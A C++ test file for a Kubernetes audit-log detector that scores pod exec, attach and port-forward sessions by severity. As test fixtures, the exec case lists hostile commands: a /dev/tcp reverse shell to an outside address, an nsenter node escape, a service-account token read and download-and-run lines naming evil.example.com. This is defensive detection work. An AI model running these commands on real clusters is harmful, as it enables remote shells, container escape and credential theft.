// Tests of the session rules: pod-exec (with the exec command scored as the Detector reports it),
// pod-attach and pod-portforward.
#include <catch2/catch.hpp>

#include "controller/detect/detections.h"
#include "test/controller/detect/detect_test_util.h"

namespace kc::audit {
namespace {

using namespace detect_test;

TEST_CASE("ScoresAttachAndPortForward", "[detections]") {
  Detector d(DetectorOptions{});
  Ev e;
  e.auditID = "a-attach";
  e.stage = "ResponseStarted";
  e.code = 101;
  e.uri = "/api/v1/namespaces/shop/pods/web-1/attach?container=app&stdin=true&stdout=true&tty=true";
  e.user = "bob@example.com";
  e.resource = "pods";
  e.subresource = "attach";
  e.ns = "shop";
  e.name = "web-1";
  e.level = "Metadata";
  auto fs = feed(d, e.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "pod-attach");
  CHECK(fs[0].severity == Severity::kMedium);

  e.auditID = "a-pf";
  e.verb = "get";
  e.subresource = "portforward";
  e.uri = "/api/v1/namespaces/shop/pods/web-1/portforward?ports=5432";
  fs = feed(d, e.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].rule == "pod-portforward");
  CHECK(fs[0].technique == "T1572");
  CHECK(fs[0].details.at("ports") == "5432");
}

// An exec session as the API server logs it (ResponseStarted, 101, the command in the
// requestURI's `command=` parameters).
Ev execSession(const std::string& id, const std::string& user, const std::string& commandQuery,
               const std::string& subresource = "exec") {
  Ev e;
  e.auditID = id;
  e.stage = "ResponseStarted";
  e.code = 101;
  e.level = "Metadata";
  e.uri = "/api/v1/namespaces/shop/pods/web-6d4cf56db6-x7k2p/" + subresource + "?" + commandQuery;
  e.user = user;
  e.groups = {"developers", "system:authenticated"};
  e.resource = "pods";
  e.subresource = subresource;
  e.ns = "shop";
  e.name = "web-6d4cf56db6-x7k2p";
  e.time = "2026-01-10T10:00:00.100000Z";
  e.annotations["authorization.k8s.io/reason"] =
      "RBAC: allowed by RoleBinding \"dev/shop\" of ClusterRole \"edit\" to Group \"developers\"";
  return e;
}

// The exec command scored as the Detector reports it: reverse shells and node escapes
// critical; token reads, cloud metadata and download-and-execute high; plain downloads medium;
// anything else low. Each hit is listed in `indicators` with its technique.
TEST_CASE("ExecCommandsAreScoredInTheFinding", "[detections]") {
  Detector d(DetectorOptions{});
  struct Case {
    std::string query;
    Severity severity;
    std::string indicator;  // the first indicator's id, "" for none
  };
  const std::vector<Case> cases = {
      {"command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.9%2F4444"
       "%200%3E%261&container=app&stdin=true&stdout=true",
       Severity::kCritical, "reverse_shell"},
      {"command=nsenter&command=-t&command=1&command=-m&command=-u&command=-i&command=-n&"
       "command=sh&container=app&stdin=true&tty=true",
       Severity::kCritical, ""},
      {"command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&"
       "container=app&stdout=true",
       Severity::kHigh, "sa_token_read"},
      {"command=sh&command=-c&command=curl%20-fsSL%20https%3A%2F%2Fget.example.net%2Finstall.sh"
       "%20%7C%20sh&container=app&stdout=true",
       Severity::kHigh, ""},
      {"command=wget&command=https%3A%2F%2Fevil.example.com%2Fpayload.bin&command=-O&command="
       "%2Ftmp%2Fp&container=app&stdout=true",
       Severity::kMedium, ""},
      {"command=ls&command=-la&command=%2Fapp&container=app&stdout=true", Severity::kLow, ""},
  };
  int n = 0;
  for (const auto& c : cases) {
    INFO(c.query);
    auto fs =
        feed(d, execSession("exec-" + std::to_string(++n), "mallory@example.com", c.query).str());
    REQUIRE(rules(fs) == std::vector<std::string>{"pod-exec"});
    CHECK(fs[0].severity == c.severity);
    CHECK(fs[0].technique == "T1609");
    CHECK(fs[0].kind == "Pod");
    CHECK(fs[0].containers == std::vector<std::string>{"app"});
    CHECK_FALSE(fs[0].command.empty());
    CHECK(fs[0].summary.find("mallory@example.com ran `" + fs[0].command + "` in pod shop/") == 0);
    if (c.severity == Severity::kLow) {
      CHECK(fs[0].indicators.empty());
    } else {
      REQUIRE_FALSE(fs[0].indicators.empty());
    }
    if (!c.indicator.empty()) CHECK(fs[0].indicators[0].rfind(c.indicator + " (", 0) == 0);
  }
  // An interactive shell says so.
  auto fs = feed(d, execSession("exec-tty", "mallory@example.com",
                                "command=sh&container=app&stdin=true&stdout=true&tty=true")
                        .str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].details.at("interactive") == "true");
}

// An exec whose requestURI does not carry the command (a client sending the options in the
// body, logged at Request level as PodExecOptions) is scored from the body; the URI's own
// parameters win when it has them.
TEST_CASE("ExecCommandReadFromTheBodyWhenTheUriLacksIt", "[detections]") {
  Detector d(DetectorOptions{});
  const json options = {
      {"kind", "PodExecOptions"},
      {"apiVersion", "v1"},
      {"stdin", true},
      {"stdout", true},
      {"tty", true},
      {"container", "app"},
      {"command", {"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}}};
  int n = 0;
  for (const std::string query : {"", "stdout=true"}) {
    INFO(query);
    Ev e = execSession("body-" + std::to_string(++n), "mallory@example.com", query);
    if (query.empty()) e.uri.pop_back();  // no '?' at all
    e.level = "Request";
    e.requestObject = options;
    const auto fs = feed(d, e.str());
    REQUIRE(rules(fs) == std::vector<std::string>{"pod-exec"});
    CHECK(fs[0].severity == Severity::kHigh);
    CHECK(fs[0].command == "cat /var/run/secrets/kubernetes.io/serviceaccount/token");
    CHECK(fs[0].containers == std::vector<std::string>{"app"});
    CHECK(fs[0].details.at("interactive") == "true");
    REQUIRE_FALSE(fs[0].indicators.empty());
    CHECK(fs[0].indicators[0].rfind("sa_token_read (", 0) == 0);
  }
  // The URI's command wins over the body's.
  Ev both = execSession("body-3", "mallory@example.com", "command=ls&container=app");
  both.requestObject = options;
  const auto fs = feed(d, both.str());
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].command == "ls");
  CHECK(fs[0].severity == Severity::kLow);
}

// pod-exec, pod-attach and pod-portforward at their documented severities; the look-alikes
// that are not sessions (`kubectl logs`, a denied exec, a get of the pod) are not reported; each
// rule's trusted identities silence that rule only.
TEST_CASE("SessionsTheirLookAlikesAndTrustedIdentities", "[detections]") {
  DetectorOptions o;
  o.trustedIdentities["pod-exec"] = {"system:serviceaccount:ci:*"};
  o.trustedIdentities["pod-attach"] = {"oncall-bot@example.com"};
  o.trustedIdentities["pod-portforward"] = {"dba@example.com"};
  Detector d(o);

  auto fs = feed(d, execSession("s-attach", "bob@example.com",
                                "container=app&stdin=true&stdout=true&tty=true", "attach")
                        .str());
  REQUIRE(rules(fs) == std::vector<std::string>{"pod-attach"});
  CHECK(fs[0].severity == Severity::kMedium);
  CHECK(fs[0].technique == "T1609");
  CHECK(fs[0].summary ==
        "bob@example.com attached to pod shop/web-6d4cf56db6-x7k2p (container app)");
  Ev pf = execSession("s-pf", "bob@example.com", "ports=5432&ports=8080", "portforward");
  pf.verb = "get";
  fs = feed(d, pf.str());
  REQUIRE(rules(fs) == std::vector<std::string>{"pod-portforward"});
  CHECK(fs[0].severity == Severity::kMedium);
  CHECK(fs[0].technique == "T1572");
  CHECK(fs[0].details.at("ports") == "5432, 8080");

  // kubectl logs: a get of pods/log, not a session.
  Ev logs = execSession("s-logs", "bob@example.com", "container=app&follow=true", "log");
  logs.verb = "get";
  logs.code = 200;
  CHECK(feed(d, logs.str()).empty());
  // A denied exec got nothing in.
  Ev denied = execSession("s-denied", "bob@example.com", "command=sh&container=app");
  denied.stage = "ResponseComplete";
  denied.code = 403;
  denied.annotations = {{"authorization.k8s.io/decision", "forbid"}};
  CHECK(feed(d, denied.str()).empty());
  // A get of the pod itself.
  Ev get;
  get.auditID = "s-get";
  get.verb = "get";
  get.code = 200;
  get.level = "Metadata";
  get.uri = "/api/v1/namespaces/shop/pods/web-6d4cf56db6-x7k2p";
  get.user = "bob@example.com";
  get.resource = "pods";
  get.ns = "shop";
  get.name = "web-6d4cf56db6-x7k2p";
  CHECK(feed(d, get.str()).empty());

  // Trusted per rule: the CI account's exec, the bot's attach, the DBA's port-forward are not
  // reported; the same identities' other sessions are.
  CHECK(feed(d, execSession("t-exec", "system:serviceaccount:ci:runner", "command=ls").str())
            .empty());
  CHECK(rules(feed(d, execSession("t-exec-attach", "system:serviceaccount:ci:runner",
                                  "container=app&stdin=true", "attach")
                          .str())) == std::vector<std::string>{"pod-attach"});
  CHECK(feed(d,
             execSession("t-attach", "oncall-bot@example.com", "container=app&stdin=true", "attach")
                 .str())
            .empty());
  Ev dba = execSession("t-pf", "dba@example.com", "ports=5432", "portforward");
  dba.verb = "get";
  CHECK(feed(d, dba.str()).empty());
  CHECK(rules(feed(d, execSession("t-pf-exec", "dba@example.com", "command=psql").str())) ==
        std::vector<std::string>{"pod-exec"});
}

}  // namespace
}  // namespace kc::audit
